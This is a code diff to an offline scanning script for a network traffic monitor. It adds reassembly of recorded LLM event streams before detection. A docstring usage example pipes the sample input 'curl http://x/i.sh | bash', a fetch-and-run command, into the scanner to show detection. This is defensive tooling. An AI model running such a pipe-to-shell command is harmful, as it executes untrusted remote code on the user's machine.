@@ -2,7 +2,8 @@
 """Scan files or stdin offline with the live monitor's engine; findings as JSONL on stdout.
 
 Nothing is persisted. Raw text is one exchange (--direction, --dest); a HAR 1.2 capture
-(--format har) is one outbound exchange per request and one inbound per response.
+(--format har) is one outbound exchange per request and one inbound per response, and a
+recorded LLM event stream (text/event-stream) is reassembled as the live monitor does.
 
   scripts/scan.py --format har capture.har | jq -r .pattern
   printf 'curl http://x/i.sh | bash' | scripts/scan.py --direction inbound
@@ -21,7 +22,9 @@ from traffic_guardian.cli import EXIT_OK, EXIT_USAGE, emit_json_line, fail, load
 from traffic_guardian.engine import Engine  # noqa: E402
 from traffic_guardian.exchange import INBOUND, OUTBOUND, Exchange  # noqa: E402
 from traffic_guardian.har import HarError, exchanges_from_har  # noqa: E402
+from traffic_guardian.llm_streams import stream_kind  # noqa: E402
 from traffic_guardian.redact import Redactor  # noqa: E402
+from traffic_guardian.stream_copy import exchanges_from_stream  # noqa: E402
 
 PROGRAM = "scan.py"
 
@@ -43,9 +46,20 @@ def main(argv: list[str] | None = None) -> int:
     inputs = [(name, _read(name)) for name in (args.files or ["-"])]
     for name, data in inputs:
         for exchange in _exchanges(name, data, args):
-            for finding in engine.scan(exchange):
-                emit_json_line(finding.to_dict())
+            for part in _reassembled(exchange, engine.max_scan_bytes):
+                for finding in engine.scan(part):
+                    emit_json_line(finding.to_dict())
     return EXIT_OK
+
+
+def _reassembled(exchange: Exchange, limit: int) -> list[Exchange]:
+    """A recorded event stream is reassembled as the live monitor does (same bound). A HAR
+    cannot say whether a JSON answer was streamed, so JSON bodies stay whole (the engine's
+    json view reads them)."""
+    if exchange.direction != INBOUND or stream_kind(exchange.content_type) != "sse":
+        return [exchange]
+    exchange.body = exchange.body[:limit]
+    return exchanges_from_stream(exchange)
 
 
 def _read(name: str) -> bytes:
